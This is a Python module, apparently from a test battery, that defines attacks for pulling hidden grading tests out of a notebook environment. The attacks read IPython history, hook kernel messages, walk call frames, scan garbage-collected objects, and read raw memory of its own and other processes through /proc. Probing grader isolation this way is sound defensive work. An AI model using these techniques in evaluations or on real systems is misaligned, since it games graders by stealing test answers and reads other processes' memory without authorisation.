"""Attempts to read hidden tests from memory: frames, history, messages, this process's bytes and others'."""

from tools.attack.attack import Attack
from tools.attack.secrets import TELL

__all__ = ["MEMORY"]

_SCAN = '''\
def scan(pid, most=200 << 20):
    """Say the secrets in a process's writable memory, as far as a limit."""
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                place, rights = line.split()[:2]
                start, end = (int(part, 16) for part in place.split("-"))
                if rights.startswith("rw") and end - start <= most:
                    most -= end - start
                    try:
                        memory.seek(start)
                        tell(memory.read(end - start))
                    except (OSError, ValueError, OverflowError):
                        continue
    except OSError:
        pass
'''


def _during_tests(says, source, body):
    """Return an attack whose functions look around while a test calls them, and say it later."""
    return Attack(says, "secret", TELL + "\n\n" + source, body, "tell(found)")


MEMORY = {
    "history": _during_tests(
        "reads the cell that calls it, and all before, from IPython's history",
        "ip = get_ipython()\n",
        "tell(ip.user_ns.get('In'))\ntell(ip.history_manager.input_hist_raw)\nraise ValueError",
    ),
    "history-on-disk": Attack(
        "reads what ran in other notebooks from IPython's history",
        "secret",
        TELL,
        last="tell_files('@HOME@/.ipython/**/*.sqlite*', os.path.expanduser('~/.ipython/**/*.sqlite*'))\n"
        "ip = get_ipython()\ntell(list(ip.history_manager.search('*', n=1000)))",
    ),
    "messages": Attack(
        "keeps every message that the kernel gets",
        "secret",
        TELL + "\n\nip = get_ipython()\nkept = ip.kernel.session.deserialize\n\n\n"
        "def deserialize(*args, **options):\n    message = kept(*args, **options)\n"
        "    tell(message.get('content'))\n    return message\n\n\n"
        "ip.kernel.session.deserialize = deserialize\n"
        "ip.events.register('pre_run_cell', lambda info: tell(info.raw_cell))\n",
        last="tell(get_ipython().kernel.get_parent('shell'))",
    ),
    "frames": _during_tests(
        "reads the source of whoever calls it, by frames and the cache of lines",
        "import linecache\nimport sys\n",
        "frame = sys._getframe(1)\nwhile frame is not None:\n"
        "    for name in ('raw_cell', 'cell', 'code', 'source', 'info'):\n"
        "        tell(frame.f_locals.get(name, ''))\n"
        "    tell(''.join(linecache.getlines(frame.f_code.co_filename)))\n"
        "    frame = frame.f_back\nraise ValueError",
    ),
    "objects": _during_tests(
        "reads every text in memory",
        "import gc\n",
        "for one in gc.get_objects():\n"
        "    if type(one) in (list, tuple, dict):\n"
        "        for part in one.values() if type(one) is dict else one:\n"
        "            tell(part if type(part) is str and 'secret-' in part else '')\nraise ValueError",
    ),
    "own-memory": _during_tests(
        "reads its own process's memory byte by byte",
        _SCAN,
        "if '@EXERCISE@' in ('bayes-rule', 'evidence'):\n    scan('self')\nraise ValueError",
    ),
    "other-memory": Attack(
        "reads the memory of other processes of this run",
        "secret",
        TELL + "\n\n" + _SCAN,
        last="import time\n\nend = time.monotonic() + 20\nfor path in glob.glob('/proc/[0-9]*'):\n"
        "    try:\n        environment = open(path + '/environ', 'rb').read()\n    except OSError:\n"
        "        continue\n    if (b'@RUN@' in environment or os.getpid() != 1) and time.monotonic() < end:\n"
        "        if b'@RUN@' in environment:\n            scan(path.split('/')[2])\n",
    ),
}
"""Attacks by id."""
